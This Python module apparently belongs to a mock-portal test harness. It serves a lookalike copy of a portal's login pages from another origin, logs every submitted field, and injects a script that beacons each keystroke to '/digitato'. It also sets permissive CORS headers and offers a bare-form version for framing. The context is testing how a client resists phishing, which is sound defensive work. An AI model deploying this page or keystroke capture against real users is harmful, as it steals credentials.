"""An origin that is not the portal's: it shows the same login pages, and keeps whatever is typed there."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING
from urllib.parse import parse_qsl

from starlette.responses import HTMLResponse, JSONResponse, Response
from starlette.routing import Route

from pec_autorenew.mock_portal.sign_in_site import Attempt
from pec_autorenew.mock_portal.values import Phished

if TYPE_CHECKING:
    from starlette.requests import Request

    from pec_autorenew.mock_portal.desk import Desk

WRONG = "I dati inseriti non sono corretti"
#: Scripts of the portal's own page may send it what they like.
OPEN = {"access-control-allow-origin": "*", "access-control-allow-headers": "*", "access-control-allow-methods": "*"}
#: What is typed is sent at once: nobody needs to press anything.
LISTENING = """<script>
addEventListener("input", (event) => {
  const field = event.composedPath()[0];
  navigator.sendBeacon("/digitato", JSON.stringify({ [field.name || field.autocomplete || field.id]: field.value }));
});
</script>
"""
#: In a frame, nothing but the form.
BARE = """<style>
#mk-testata, #mk-avviso-casa, #mk-piede, .mk-footer, .mk-brand, h1 { display: none !important; }
body.mk-door { padding: 0; background: none; }
#mk-corpo, .mk-accesso, .mk-door-card { width: auto; min-height: 0; margin: 0; padding: 0; border: 0; }
body { background: #fff; }
.mk-door-card { box-shadow: none; }
</style>
"""


class ForeignSite:
    """The same page at every address; the truth knows what it was told."""

    def __init__(self, desk: Desk) -> None:
        """Stand beside the portal, and look like it."""
        self._truth = desk.truth
        self._rendering = desk.rendering
        self._username = ""

    def routes(self) -> list[Route]:
        """List the one page that there is."""
        return [Route("/{path:path}", self.serve, methods=["GET", "POST", "OPTIONS"], name="altrove")]

    async def serve(self, request: Request) -> Response:
        """Keep what came, and show what the layout of the moment would."""
        await self._keep(request)
        if request.method == "OPTIONS" or request.url.path == "/digitato":
            return Response(status_code=204, headers=OPEN)
        if self._truth.layout == "g4" and request.url.path.startswith("/api/"):
            return self._json(request)
        page = self._page(request)
        head, end, rest = bytes(page.body).decode().rpartition("</body>")
        bare = self._rendering.rename(BARE) if request.url.path.startswith("/riquadro") else ""
        return HTMLResponse(head + bare + LISTENING + end + rest)

    def _page(self, request: Request) -> Response:
        typed = request.method == "POST"
        match self._truth.layout:
            case "g2":
                wrong = f"{WRONG}." if typed else ""
                values = {"username": self._username if typed else "", "ended": False, "captcha": None, "stranger": ""}
                return self._rendering.page("g2/login.html", wrong=wrong, action="/login", frame="", **values)
            case "g3":
                attempt = Attempt(token="altrove", back="", state="", username=self._username if typed else "")
                if not request.url.path.endswith(("/utente", "/password")) or not typed:
                    return self._rendering.page("g3/accesso_utente.html", attempt=attempt, ended=False, frame="")
                wrong = WRONG if request.url.path.endswith("/password") else ""
                values = {"captcha": None, "stranger": "", "goes_to": ""}
                return self._rendering.page("g3/accesso_password.html", attempt=attempt, wrong=wrong, **values)
            case _:
                return self._rendering.page("g4/applicazione.html")

    def _json(self, request: Request) -> Response:
        if request.method == "POST":
            return JSONResponse({"message": f"{WRONG}. Controlla e riprova."}, 400, headers=OPEN)
        if request.url.path == "/api/accesso":
            return JSONResponse({"captcha": None})
        return JSONResponse({"ended": False}, 401)

    async def _keep(self, request: Request) -> None:
        """Remember what an address, a form or a script brought."""
        text = (await request.body()).decode(errors="replace")
        if text.startswith("{"):
            fields = {str(name): str(value) for name, value in json.loads(text).items()}
        else:
            fields = dict(parse_qsl(text)) or ({"": text} if text else {})
        fields = {**dict(request.query_params), **fields}
        if fields:
            url = request.url
            now = self._truth.clock.now()
            self._username = fields.get("username", self._username)
            self._truth.phished.append(Phished(at=now, host=url.netloc, path=url.path, fields=fields))
